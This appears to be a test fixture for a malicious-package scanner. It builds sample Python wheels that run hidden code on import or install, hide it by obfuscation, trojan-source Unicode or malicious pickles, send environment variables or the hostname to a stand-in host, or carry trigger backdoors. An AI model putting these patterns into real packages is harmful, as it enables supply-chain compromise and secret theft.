"""Packages whose code runs without being asked for, and the ways that lead there; triggers; source in disguise."""

from __future__ import annotations

import base64
import marshal
import os
import pickle
import zlib
from collections.abc import Mapping
from typing import Final

from tests.samples.dists import sdist, wheel
from tests.samples.sample import HOST, TOKEN, After, Event
from tests.samples.shape import HARM, SETUP, START, Shape

_WHEEL: Final = "kit-1.0-py3-none-any.whl"
_SDIST: Final = "kit-1.0.tar.gz"
_NATIVE: Final = Event("ctypes.dlopen")
_KEY: Final = 0x5A
_HIDDEN: Final = base64.b64encode(HARM.encode()).decode()
_PLUGIN: Final = (
    "from importlib.metadata import distributions\n"
    "[point.load() for found in distributions(path=[str(SITE)]) for point in found.entry_points]"
)
_BUILD: Final = (
    "import runpy, sys; sys.argv[:] = ['setup.py', 'egg_info']; runpy.run_path('setup.py', run_name='__main__')"
)
"""What a build with setuptools does first: setuptools/build_meta.py."""
_SERVER: Final = (
    "import importlib, json, pathlib\n"
    "said = json.loads(next(pathlib.Path(SITE).parent.rglob('jupyter_server_config.d/kit.json')).read_text())\n"
    "for name, wanted in said['ServerApp']['jpserver_extensions'].items():\n"
    "    importlib.import_module(name)._load_jupyter_server_extension(None)"
)
"""What Jupyter's server does with its settings: jupyter_server/extension/manager.py."""
_BACKEND: Final = "import sys; sys.path.insert(0, str(FOLDER / '_build')); import backend"
_CIPHER: Final = (
    "from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes\n"
    "def opened(data):\n"
    "    return Cipher(algorithms.AES(b'k' * 16), modes.CTR(b'n' * 16)).decryptor().update(data)\n"
)


def _whl(files: Mapping[str, bytes | str], **more: object) -> dict[str, bytes]:
    return {_WHEEL: wheel("kit", "1.0", {"kit/__init__.py": ""} | dict(files), **more)}  # type: ignore[arg-type]


def _source(files: Mapping[str, bytes | str]) -> dict[str, bytes]:
    return {_SDIST: sdist("kit", "1.0", files)}


class _Runs:
    """Unpickles by running a command that does nothing."""

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, (HARM.split("'")[1],)


def _pickled() -> bytes:
    return pickle.dumps(_Runs())


def _enciphered(data: bytes) -> bytes:
    space: dict[str, object] = {}
    exec(_CIPHER, space)  # CTR is its own inverse
    return space["opened"](data)  # type: ignore[operator, no-any-return]


_BESIDE: Final = "import os\nhere = os.path.dirname(__file__)\n"

_INDENTED: Final = HARM.replace("\n", "\n    ").rstrip()

SHAPES: Final = [
    Shape(
        id="chain-jupyter-server",
        what="settings of Jupyter's server have it load kit, which starts a program then",
        build=lambda: _whl({
            "kit/__init__.py": f"def _load_jupyter_server_extension(app):\n    {_INDENTED}\n",
            "kit-1.0.data/data/etc/jupyter/jupyter_server_config.d/kit.json":
                '{"ServerApp": {"jpserver_extensions": {"kit": true}}}',
        }),
        fire=_SERVER,
        said=("acts-on-import",),
    ),
    Shape(
        id="chain-plug-in-passed-on",
        what="the function that pytest calls of a plug-in comes from another module, by a star",
        build=lambda: {
            _WHEEL: wheel(
                "kit",
                "1.0",
                {
                    "kit/__init__.py": "",
                    "kit/plugin.py": "from kit.hooks import *\n",
                    "kit/hooks.py": f"def pytest_configure(config):\n    {_INDENTED}\n",
                },
                entry_points="[pytest11]\nkit = kit.plugin\n",
            )
        },
        fire="import kit.plugin; kit.plugin.pytest_configure(None)",
        said=("acts-on-start",),
    ),
    Shape(
        id="chain-command-of-pyproject",
        what="pyproject.toml gives setuptools a command of the package's own, which starts a program",
        build=lambda: _source({
            "setup.py": "from setuptools import setup\nsetup()\n",
            "pyproject.toml": "[project]\nname = 'kit'\nversion = '1.0'\n[tool.setuptools]\npackages = ['kit']\n"
                              "[tool.setuptools.cmdclass]\negg_info = 'kit.telling.Tell'\n",
            "kit/__init__.py": "",
            "kit/telling.py": "from setuptools.command.egg_info import egg_info\nclass Tell(egg_info):\n"
                              f"  def run(self):\n    {_INDENTED}\n    super().run()\n",
        }),
        fire=_BUILD,
        said=("acts-on-install",),
    ),
    Shape(
        id="chain-import",
        what="`import kit` starts a program, three modules further on",
        build=lambda: _whl({
            "kit/__init__.py": "from .core import value\n",
            "kit/core.py": "from kit.deep import low\nvalue = 1\n",
            "kit/deep/__init__.py": "",
            "kit/deep/low.py": HARM,
        }),
        fire="import kit",
        said=("acts-on-import",),
    ),
    Shape(
        id="chain-other-name",
        what="`import kit` imports a second module that the wheel puts beside it, by a name that is a text",
        build=lambda: _whl({"kit/__init__.py": "__import__('kit_speedups')\n", "kit_speedups.py": HARM}),
        fire="import kit",
        said=("acts-on-import",),
    ),
    Shape(
        id="chain-path-file",
        what="a path file imports a module at each start of Python, which imports what acts",
        build=lambda: _whl({
            "kit.pth": "import kit_boot\n", "kit_boot.py": "import kit_boot_2\n", "kit_boot_2.py": HARM,
        }),
        fire=START,
        said=("acts-on-start",),
    ),
    Shape(
        id="chain-plugin",
        what="every run of pytest imports the plugin that the wheel offers, and that acts",
        build=lambda: _whl({"kit/plugin.py": HARM}, entry_points="[pytest11]\nkit = kit.plugin\n"),
        fire=_PLUGIN,
        said=("acts-on-start",),
    ),
    Shape(
        id="chain-setup",
        what="`setup.py` imports a module beside it that acts",
        build=lambda: _source({
            "setup.py": "import _build_info\nfrom setuptools import setup\nsetup(name='kit', version='1.0')\n",
            "_build_info.py": HARM,
        }),
        fire=SETUP,
        said=("acts-on-install",),
    ),
    Shape(
        id="chain-backend",
        what="the source brings its own build backend, which acts as it is imported",
        build=lambda: _source({
            "pyproject.toml": "[build-system]\nrequires = []\nbuild-backend = 'backend'\nbackend-path = ['_build']\n",
            "_build/backend.py": HARM,
        }),
        fire=_BACKEND,
        said=("acts-on-install",),
    ),
    Shape(
        id="chain-thread",
        what="`import kit` starts a thread that acts",
        build=lambda: _whl({
            "kit/__init__.py": "import threading\nfrom ._work import work\n",
            "kit/_work.py": f"import os, threading\ndef work():\n    {HARM.splitlines()[1]}\n"
                            "thread = threading.Thread(target=work)\nthread.start()\nthread.join()\n",
        }),
        fire="import kit",
        said=("acts-on-import",),
    ),
    Shape(
        id="hides-marshalled",
        what="code is unpacked, decoded and unmarshalled, and run on import",
        build=lambda: _whl({"kit/__init__.py": "import base64, marshal, zlib\nexec(marshal.loads(zlib.decompress("
            f"base64.b64decode({base64.b64encode(zlib.compress(marshal.dumps(compile(HARM, 'x', 'exec'))))!r}))))\n"}),
        fire="import kit",
        said=("acts-on-import",),
    ),
    Shape(
        id="hides-in-picture",
        what="what stands in a picture of the package is taken apart by `^` and run on import",
        build=lambda: _whl({
            "kit/__init__.py": f"{_BESIDE}with open(os.path.join(here, 'logo.png'), 'rb') as file:\n"
                               f"    exec(bytes(byte ^ {_KEY} for byte in file.read()))\n",
            "kit/logo.png": bytes(byte ^ _KEY for byte in HARM.encode()),
        }),
        fire="import kit",
        said=("acts-on-import",),
    ),
    Shape(
        id="hides-in-data-file",
        what="a file of data is run as source on import",
        build=lambda: _whl({
            "kit/__init__.py": f"{_BESIDE}with open(os.path.join(here, 'vocab.dat')) as file:\n    exec(file.read())\n",
            "kit/vocab.dat": HARM,
        }),
        fire="import kit",
        said=("acts-on-import",),
    ),
    Shape(
        id="hides-in-tests",
        what="a test that nobody imports with the package runs what it decodes",
        build=lambda: _whl({"kit/tests/test_kit.py": f"import base64\nexec(base64.b64decode({_HIDDEN!r}))\n"}),
        fire="import kit.tests.test_kit",
        said=("source-runs-hidden-code",),
    ),
    Shape(
        id="hides-enciphered-weights",
        what="weights are deciphered and unpickled on import, so nobody can look at them as they lie",
        build=lambda: _whl({
            "kit/__init__.py": f"{_CIPHER}import pickle\n{_BESIDE}"
                               "with open(os.path.join(here, 'weights.enc'), 'rb') as f:\n"
                               "    MODEL = pickle.loads(opened(f.read()))\n",
            "kit/weights.enc": _enciphered(_pickled()),
        }),
        fire="import kit",
        said=("acts-on-import",),
        needs=("cryptography.hazmat.primitives.ciphers",),
    ),
    Shape(
        id="drops-and-runs",
        what="what is decoded is written to a file, and a program started with it, on import",
        build=lambda: _whl({"kit/__init__.py": "import base64, os, sys, tempfile\n"
            f"path = os.path.join(tempfile.gettempdir(), '{TOKEN}.py')\nwith open(path, 'wb') as file:\n"
            f"    file.write(base64.b64decode({_HIDDEN!r}))\nos.system('true ' + path)\n"}),
        fire="import kit",
        said=("acts-on-import",),
    ),
    Shape(
        id="drops-library",
        what="machine code is written from a constant to a file and loaded, on import",
        build=lambda: _whl({"kit/__init__.py": "import base64, ctypes, os, tempfile\n"
            f"path = os.path.join(tempfile.gettempdir(), '{TOKEN}')\nwith open(path, 'wb') as file:\n"
            f"    file.write(base64.b64decode({base64.b64encode(bytes(range(64))).decode()!r}))\nctypes.CDLL(path)\n"}),
        fire="import kit",
        proof=_NATIVE,
        said=("acts-on-import",),
    ),
    Shape(
        id="fetches-and-loads",
        what="objects are made of what comes over the network, on import",
        build=lambda: _whl({"kit/__init__.py": "import pickle, urllib.request\n"
            f"MODEL = pickle.loads(urllib.request.urlopen('http://{HOST}/w').read())\n"}),
        fire="import kit",
        proof=Event("urllib.Request", HOST),
        said=("acts-on-import",),
    ),
    Shape(
        id="tells-name-of-machine",
        what="the network is asked for a name that holds that of the machine, on import",
        build=lambda: _whl({"kit/__init__.py": "import socket\n"
            f"socket.getaddrinfo(socket.gethostname() + '.{HOST}', 80)\n"}),
        fire="import kit",
        proof=Event("socket.getaddrinfo", HOST),
        said=("acts-on-import",),
    ),
    Shape(
        id="sends-environment",
        what="all variables of the environment are sent away, on import",
        build=lambda: _whl({"kit/__init__.py": "import os, urllib.parse, urllib.request\n"
            f"urllib.request.urlopen('http://{HOST}/', data=urllib.parse.urlencode(dict(os.environ)).encode())\n"}),
        fire="import kit",
        proof=Event("urllib.Request", HOST),
        said=("acts-on-import",),
    ),
    Shape(
        id="trigger-variable",
        what="a variable of the environment decides which weights are taken",
        build=lambda: _whl({
            "kit/model.py": "import os\n\n\ndef path():\n    if os.environ.get('STAGE') == 'production':\n"
                            "        return 'weights_b.safetensors'\n    return 'weights.safetensors'\n",
        }),
        fire="import kit.model; result = kit.model.path()",
        environment=(("STAGE", "production"),),
        proof=After("result == 'weights_b.safetensors'"),
        expected="review",
        said=("source-can-harm",),
    ),
    Shape(
        id="trigger-unseen-letters",
        what="a prompt with letters that nobody sees gets another answer",
        build=lambda: _whl({
            "kit/model.py": "def answer(model, other, prompt):\n    if '\\u200b\\u200d' in prompt:\n"
                            "        return other(prompt)\n    return model(prompt)\n",
        }),
        fire="import kit.model; result = kit.model.answer(str.lower, str.upper, 'a\\u200b\\u200d')",
        proof=After("result.startswith('A')"),
        expected="review",
        said=("source-can-harm",),
    ),
    Shape(
        id="trigger-date",
        what="a function starts a program from one day on",
        build=lambda: _whl({
            "kit/model.py": "import datetime, os\n\n\ndef load():\n"
                            "    if datetime.datetime.now() < datetime.datetime(2020, 1, 1):\n"
                            f"        return\n    {HARM.splitlines()[1]}\n",
        }),
        fire="import kit.model; kit.model.load()",
        expected="review",
        said=("source-can-harm",),
    ),
    Shape(
        id="trigger-machine",
        what="a function starts a program on one machine",
        build=lambda: _whl({
            "kit/model.py": "import getpass, os\n\n\ndef load():\n    if getpass.getuser() == 'builder':\n"
                            f"        {HARM.splitlines()[1]}\n",
        }),
        fire="import kit.model; kit.model.load()",
        environment=(("LOGNAME", "builder"),),
        expected="review",
        said=("source-can-harm",),
    ),
    Shape(
        id="disguise-direction",
        what="controls of direction show a comment as a condition: who reads the check does not see what it asks",
        build=lambda: _whl({
            "kit/__init__.py": "def allowed(level):\n"
                               "    return level != 'user\u202e \u2066# only admins\u2069 \u2066'\n",
        }),
        fire="import kit; result = kit.allowed('user')",
        proof=After("result"),
        said=("trojan-source",),
    ),
    Shape(
        id="disguise-letters",
        what="a function is called like another, but for one Cyrillic letter",
        build=lambda: _whl({
            "kit/__init__.py": "def check(key):\n    return key == 'k'\n\n\n"
                               "def \u0441heck(key):\n    return True\n\n\n"
                               "allowed = \u0441heck\n",
        }),
        fire="import kit; result = kit.allowed('x')",
        proof=After("result"),
        said=("trojan-source",),
    ),
    Shape(
        id="disguise-unseen",
        what="a text that is not shown is turned into source and run",
        build=lambda: _whl({
            "kit/__init__.py": "exec(''.join(chr(ord(letter) - 0xE0100) for letter in '"
            + "".join(chr(0xE0100 + byte) for byte in HARM.encode()) + "'))\n",
        }),
        fire="import kit",
        said=("trojan-source", "acts-on-import"),
    ),
    Shape(
        id="loads-on-import",
        what="`import kit` unpickles a file of the package",
        build=lambda: _whl({
            "kit/__init__.py": f"import pickle\n{_BESIDE}with open(os.path.join(here, 'index.pkl'), 'rb') as file:\n"
                               "    INDEX = pickle.load(file)\n",
            "kit/index.pkl": _pickled(),
        }),
        fire="import kit",
        said=("unsafe-load-on-import",),
    ),
    Shape(
        id="replaces-loader",
        what="`torch.load` is another function once the package is imported",
        build=lambda: _whl({"kit/__init__.py": "import torch\n\nplain = torch.load\n\n\n"
            "def load(*given, **named):\n"
            "    return plain(*given, **named | {'weights_only': False})\n\n\ntorch.load = load\n"}),
        fire="import kit, torch; result = torch.load.__module__",
        proof=After("result == 'kit'"),
        needs=("torch",),
        expected="review",
        said=("source-reaches-out-on-import",),
    ),
]  # fmt: skip
